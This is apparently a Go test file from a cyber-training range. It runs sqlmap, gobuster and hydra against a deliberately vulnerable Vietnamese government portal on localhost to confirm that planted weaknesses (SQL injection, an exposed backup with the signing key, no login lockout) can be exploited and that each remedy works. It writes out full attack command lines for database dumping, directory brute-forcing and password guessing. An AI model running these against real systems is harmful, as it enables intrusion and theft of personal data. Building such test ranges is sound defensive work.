package portal

import (
	"bytes"
	"context"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/cyrange/cyrange/images/mailserver/corpus"
	"github.com/cyrange/cyrange/images/portal/contract"
	"github.com/cyrange/cyrange/images/portal/portalclient"
	"github.com/cyrange/cyrange/images/target/targettest"
)

// missing skips a test whose real client (or its data) is not installed,
// or fails it with CYRANGE_REQUIRE_TOOLS=1, as CI sets: there the players'
// tools must be present and the test must run.
func missing(t *testing.T, what string) {
	t.Helper()
	if os.Getenv("CYRANGE_REQUIRE_TOOLS") == "1" {
		t.Fatalf("%s not installed", what)
	}
	t.Skipf("%s not installed", what)
}

// tool finds a real client, skipping (or failing, with
// CYRANGE_REQUIRE_TOOLS=1) when it is not installed.
func tool(t *testing.T, name string) string {
	t.Helper()
	p, err := exec.LookPath(name)
	if err != nil {
		missing(t, name)
	}
	return p
}

// command runs a real client bounded by ctx. Its own process group, so
// that the end of ctx also ends the processes it forked (hydra's tasks),
// which would otherwise hold its output open and keep guessing.
func command(ctx context.Context, name string, args ...string) *exec.Cmd {
	cmd := exec.CommandContext(ctx, name, args...)
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	cmd.Cancel = func() error { return syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL) }
	cmd.WaitDelay = time.Second
	return cmd
}

// dirbCommon is the stock wordlist of Debian's dirb package, the one a
// player reaches for first; it holds "backup".
const dirbCommon = "/usr/share/dirb/wordlists/common.txt"

func startSmall(t *testing.T, weak map[string]bool) *Server {
	t.Helper()
	s, err := New(context.Background(), Config{Listen: "127.0.0.1", Sites: 30, Dossiers: 500, Seed: 5, Weaknesses: weak, OperatorPassword: "operator-pw-123"})
	if err != nil {
		t.Fatal(err)
	}
	if err := s.Start(context.Background()); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = s.Close() })
	return s
}

// remedy applies weakness w's remedy the way the defence does: through
// the admin console's JSON API, with the same call the target adapter
// makes, so the tools are stopped by the documented remedy and not by a
// shortcut into the server.
func remedy(t *testing.T, s *Server, w string) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	a := portalclient.NewAdmin("http://"+s.AddrAdmin(), nil, OperatorUser, s.OperatorPassword())
	defer a.Close()
	if err := portalclient.Remedy(ctx, a, w); err != nil {
		t.Fatalf("remedy of %s: %v", w, err)
	}
}

// plantDossierFlag puts a flag in the dossier store the way the checker
// does: a citizen submits a dossier of the main portal through the public
// form, the flag in its notes.
func plantDossierFlag(t *testing.T, s *Server) string {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	c := portalclient.New("http://"+s.AddrHTTP(), nil)
	defer c.Close()
	procs, err := c.Procedures(ctx, MainSite)
	if err != nil || len(procs) == 0 {
		t.Fatalf("procedures of %s: %v (%d)", MainSite, err, len(procs))
	}
	flag := targettest.NewFlag()
	if _, err := c.Submit(ctx, portalclient.Dossier{Procedure: procs[0].ID, Applicant: "Nguyễn Văn Tâm", CitizenID: "082090123456",
		Phone: "0912345678", Address: "Ấp Bình Thạnh", Notes: "Xin cấp bản sao\nMã hồ sơ gốc: " + flag}); err != nil {
		t.Fatalf("submit the flagged dossier: %v", err)
	}
	return flag
}

// TestCurlPages: curl reads the public pages a citizen opens.
func TestCurlPages(t *testing.T) {
	curl := tool(t, "curl")
	s := startSmall(t, nil)
	for path, want := range map[string]string{
		"/":                          "Tin tức - Sự kiện",
		"/dich-vu-cong/thu-tuc":      "Thủ tục hành chính",
		"/van-ban?site=stttt":        "Văn bản",
		"/tim-kiem?q=chuy%E1%BB%83n": "Kết quả cho",
		"/dich-vu-cong/tra-cuu":      "Tra cứu hồ sơ",
		"/backup/portal-config.bak":  "Không tìm thấy trang",
		"/mot-cua/dang-nhap":         "Đăng nhập",
	} {
		out, err := exec.Command(curl, "-s", "--max-time", "10", "http://"+s.AddrHTTP()+path).CombinedOutput()
		if err != nil || !strings.Contains(string(out), want) {
			t.Errorf("curl %s: %v, want %q in %.300s", path, err, want, out)
		}
	}
}

// TestSqlmapNewsSearch: Debian's sqlmap finds the UNION injection in the
// news search with the weakness on and dumps the flag a citizen's dossier
// holds; once patched it finds no injection and dumps nothing.
func TestSqlmapNewsSearch(t *testing.T) {
	if testing.Short() {
		t.Skip("sqlmap takes seconds")
	}
	sqlmap := tool(t, "sqlmap")
	s := startSmall(t, map[string]bool{contract.NewsSQLi: true})
	flag := plantDossierFlag(t, s)
	run := func() string {
		ctx, cancel := context.WithTimeout(context.Background(), 90*time.Second)
		defer cancel()
		// The dump is bounded to the rows holding an "=", as flags do (the
		// reference exploit's filter), so it is one UNION request and not
		// the whole table.
		out, _ := command(ctx, sqlmap, "-u", "http://"+s.AddrHTTP()+"/tim-kiem?q=test", "-p", "q", "--batch",
			"--level", "1", "--risk", "1", "--technique=U", "--dbms=SQLite", "--flush-session", "--output-dir", t.TempDir(),
			"--timeout", "5", "--retries", "0",
			"--dump", "-T", "dossiers", "-C", "code,notes", "--where", "notes LIKE '%=%'").CombinedOutput()
		return string(out)
	}
	out := run()
	if !strings.Contains(out, "Parameter: q (GET)") {
		t.Fatalf("sqlmap found no injection with the weakness on:\n%s", out)
	}
	if !strings.Contains(out, flag) {
		t.Fatalf("sqlmap did not dump the dossier's flag %s:\n%s", flag, out)
	}
	remedy(t, s, contract.NewsSQLi)
	out = run()
	if strings.Contains(out, "Parameter: q (GET)") || strings.Contains(out, flag) {
		t.Fatalf("sqlmap still found the injection or the flag after the patch:\n%s", out)
	}
	// A sqlmap that stopped early would also find nothing: ask for its verdict.
	if !strings.Contains(out, "do not appear to be injectable") {
		t.Fatalf("sqlmap gave no verdict after the patch:\n%s", out)
	}
}

// TestGobusterBackup: gobuster with dirb's stock wordlist finds the
// installer's /backup/, curl reads the file its listing names and finds
// the live session signing key; once the backup is removed gobuster no
// longer finds the directory and the file is gone.
func TestGobusterBackup(t *testing.T) {
	if testing.Short() {
		t.Skip("gobuster tries the 4,600 words of a wordlist")
	}
	gobuster, curl := tool(t, "gobuster"), tool(t, "curl")
	if _, err := os.Stat(dirbCommon); err != nil {
		missing(t, dirbCommon+" (Debian package dirb)")
	}
	s := startSmall(t, map[string]bool{contract.BackupExposed: true})
	base := "http://" + s.AddrHTTP()
	// scan returns gobuster's findings, path → line.
	scan := func() map[string]string {
		found := filepath.Join(t.TempDir(), "found.txt")
		ctx, cancel := context.WithTimeout(context.Background(), 90*time.Second)
		defer cancel()
		// -f asks for every word as a directory, as dirb does: the router
		// redirects /backup to /backup/ whether the backup is there or
		// not, so only the directory itself tells. Four threads stay far
		// below the portal's 16 requests in flight per source.
		log, err := command(ctx, gobuster, "dir", "-u", base+"/", "-w", dirbCommon, "-f", "-t", "4",
			"--timeout", "5s", "-q", "-z", "--no-color", "-o", found).CombinedOutput()
		if err != nil || bytes.Contains(log, []byte("[ERROR]")) {
			t.Fatalf("gobuster: %v\n%.2000s", err, log)
		}
		data, err := os.ReadFile(found)
		if err != nil {
			t.Fatal(err)
		}
		paths := map[string]string{}
		for _, line := range strings.Split(string(data), "\n") {
			if f := strings.Fields(line); len(f) > 0 {
				paths[f[0]] = line
			}
		}
		return paths
	}
	get := func(path string) (int, string) {
		out, err := exec.Command(curl, "-s", "--max-time", "10", "-w", "\n%{http_code}", base+path).Output()
		if err != nil {
			t.Fatalf("curl %s: %v", path, err)
		}
		// -w puts the status on a last line of its own.
		i := bytes.LastIndexByte(out, '\n')
		n, _ := strconv.Atoi(string(out[i+1:]))
		return n, string(out[:i])
	}

	if line := scan()["/backup/"]; !strings.Contains(line, "(Status: 200)") {
		t.Fatalf("gobuster did not find /backup/ with the weakness on (found %q)", line)
	}
	code, listing := get("/backup/")
	m := regexp.MustCompile(`href="([^"/]+\.bak)"`).FindStringSubmatch(listing)
	if code != 200 || m == nil {
		t.Fatalf("the listing of /backup/ (%d) names no backup:\n%.500s", code, listing)
	}
	code, backup := get("/backup/" + m[1])
	if want := "signing_key = " + string(s.sec.signingKey()) + "\n"; code != 200 || !strings.Contains(backup, want) {
		t.Fatalf("/backup/%s (%d) does not hold the live signing key:\n%.500s", m[1], code, backup)
	}

	remedy(t, s, contract.BackupExposed)
	if line, ok := scan()["/backup/"]; ok {
		t.Fatalf("gobuster still finds /backup/ after the remedy: %s", line)
	}
	if code, _ := get("/backup/" + m[1]); code != 404 {
		t.Fatalf("/backup/%s answers %d after the remedy, want 404", m[1], code)
	}
}

// hydraLog keeps hydra's output and ends its run at the first error:
// hydra retries forever a guess whose answer it cannot judge, so waiting
// for the timeout would only delay the failure.
type hydraLog struct {
	b    bytes.Buffer
	stop context.CancelFunc
}

// Write is called by one goroutine at a time: the command's stdout and
// stderr are this one writer.
func (l *hydraLog) Write(p []byte) (int, error) {
	if l.b.Len() < 64<<10 {
		l.b.Write(p)
	}
	if bytes.Contains(l.b.Bytes(), []byte("[ERROR]")) {
		l.stop()
	}
	return len(p), nil
}

// TestHydraClerkLogin: hydra's http-post-form, given the wordlist of the
// no_lockout reference exploit, finds the main portal clerk's password on
// the back-office login form, and the password opens a session; with the
// lockout on, the same guesses find nothing, since the password comes
// after more failures than the lockout allows.
func TestHydraClerkLogin(t *testing.T) {
	if testing.Short() {
		t.Skip("hydra makes hundreds of logins")
	}
	hydra := tool(t, "hydra")
	const clerk = "vanthu." + MainSite
	s := startSmall(t, map[string]bool{contract.NoLockout: true})
	host, port, err := net.SplitHostPort(s.AddrHTTP())
	if err != nil {
		t.Fatal(err)
	}
	words := corpus.CommonPasswords()
	words = words[:min(len(words), 320)]
	found := regexp.MustCompile(`login: ` + regexp.QuoteMeta(clerk) + `\s+password: (\S+)`)
	run := func(words []string) string {
		list := filepath.Join(t.TempDir(), "passwords.txt")
		if err := os.WriteFile(list, []byte(strings.Join(words, "\n")+"\n"), 0o600); err != nil {
			t.Fatal(err)
		}
		ctx, cancel := context.WithTimeout(context.Background(), 90*time.Second)
		defer cancel()
		// Every failure, the lockout's included, comes back as the login
		// form with its error paragraph (F=, hydra's last field). The
		// form needs no cookie first, so G= spares hydra's GET before
		// each guess. Four tasks stay far below the portal's 16 requests
		// in flight per source; -f stops at the first password found.
		cmd := command(ctx, hydra, "-l", clerk, "-P", list, "-t", "4", "-f", "-w", "10", "-I", "-s", port, host,
			"http-post-form", `/mot-cua/dang-nhap:username=^USER^&password=^PASS^:G=:F=class="err"`)
		cmd.Dir = t.TempDir() // hydra leaves hydra.restore where it runs
		log := &hydraLog{stop: cancel}
		cmd.Stdout, cmd.Stderr = log, log
		err := cmd.Run()
		out := log.b.String()
		// A run cut short finds nothing too: require hydra's own verdict.
		if strings.Contains(out, "[ERROR]") || !strings.Contains(out, "1 of 1 target") {
			t.Fatalf("hydra stopped without a verdict (%v):\n%.3000s", err, out)
		}
		return out
	}

	out := run(words)
	m := found.FindStringSubmatch(out)
	if m == nil {
		t.Fatalf("hydra did not find %s's password with no lockout:\n%s", clerk, out)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	c := portalclient.New("http://"+s.AddrHTTP(), nil)
	defer c.Close()
	if err := c.Login(ctx, clerk, m[1]); err != nil {
		t.Fatalf("the password hydra found (%q) does not log %s in: %v", m[1], clerk, err)
	}

	remedy(t, s, contract.NoLockout)
	// The guesses that found it, replayed: what comes after the password
	// cannot find it.
	i := slices.Index(words, m[1])
	if i < 0 {
		t.Fatalf("hydra found %q, which is not in its wordlist", m[1])
	}
	if out := run(words[:i+1]); found.MatchString(out) {
		t.Fatalf("hydra still found %s's password with the lockout on:\n%s", clerk, out)
	}
}
